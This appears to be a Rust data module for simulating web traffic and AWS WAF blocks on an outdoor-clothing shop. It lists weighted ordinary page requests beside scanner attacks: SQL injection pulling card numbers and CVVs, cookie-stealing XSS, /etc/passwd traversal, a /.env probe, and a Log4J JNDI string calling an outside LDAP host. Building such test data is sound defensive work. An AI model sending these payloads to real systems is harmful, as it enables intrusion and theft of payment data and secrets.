//! What is asked of the web servers: pages by people, weaknesses by scanners. Data only.

/// One thing that scanners try: request, and the rule that stops it.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Attack {
    pub(crate) method: &'static str,
    pub(crate) path: &'static str,
    pub(crate) query: &'static str,
    pub(crate) group: &'static str,
    pub(crate) rule: &'static str,
    pub(crate) label: &'static str,
    /// Condition, location and matched data, for rules that tell.
    pub(crate) matched: Option<(&'static str, &'static str, &'static [&'static str])>,
}

/// What scanners try.
pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        method: "GET",
        path: "/products",
        query: "id=17%27%20UNION%20SELECT%20card,cvv%20FROM%20payments--",
        group: "AWS#AWSManagedRulesSQLiRuleSet",
        rule: "SQLi_QUERYARGUMENTS",
        label: "awswaf:managed:aws:sql-database:SQLi_QueryArguments",
        matched: Some(("SQL_INJECTION", "ALL_QUERY_ARGS", &["17'", "UNION", "SELECT"])),
    },
    Attack {
        method: "GET",
        path: "/search",
        query: "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        group: "AWS#AWSManagedRulesCommonRuleSet",
        rule: "CrossSiteScripting_QUERYARGUMENTS",
        label: "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments",
        matched: Some(("XSS", "ALL_QUERY_ARGS", &["<", "script"])),
    },
    Attack {
        method: "GET",
        path: "/static/..%2f..%2f..%2f..%2fetc/passwd",
        query: "",
        group: "AWS#AWSManagedRulesCommonRuleSet",
        rule: "GenericLFI_URIPATH",
        label: "awswaf:managed:aws:core-rule-set:GenericLFI_URIPath",
        matched: None,
    },
    Attack {
        method: "GET",
        path: "/.env",
        query: "",
        group: "AWS#AWSManagedRulesCommonRuleSet",
        rule: "RestrictedExtensions_URIPATH",
        label: "awswaf:managed:aws:core-rule-set:RestrictedExtensions_URIPath",
        matched: None,
    },
    Attack {
        method: "GET",
        path: "/",
        query: "x=${jndi:ldap://45.33.32.8:1389/a}",
        group: "AWS#AWSManagedRulesKnownBadInputsRuleSet",
        rule: "Log4JRCE_QUERYSTRING",
        label: "awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString",
        matched: None,
    },
    Attack {
        method: "POST",
        path: "/wp-login.php",
        query: "",
        group: "AWS#AWSManagedRulesAmazonIpReputationList",
        rule: "AWSManagedIPReputationList",
        label: "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList",
        matched: None,
    },
];

/// Pages that people ask for, the common ones first.
pub(crate) const PAGES: &[(&str, &str, &str)] = &[
    ("GET", "/", ""),
    ("GET", "/products", "page=2"),
    ("GET", "/products/trail-jacket", ""),
    ("GET", "/products/rain-shell", "colour=moss"),
    ("GET", "/api/v2/stock", "sku=TJ-4471"),
    ("GET", "/api/v2/cart", ""),
    ("POST", "/api/v2/cart/items", ""),
    ("GET", "/static/app.8f21c0.js", ""),
    ("GET", "/static/site.41ab99.css", ""),
    ("GET", "/search", "q=wool%20socks"),
    ("POST", "/login", ""),
    ("POST", "/api/v2/checkout", ""),
];

/// How often each is asked for.
pub(crate) const PAGE_WEIGHTS: [u16; 12] = [20, 14, 12, 9, 12, 8, 5, 9, 8, 6, 3, 2];
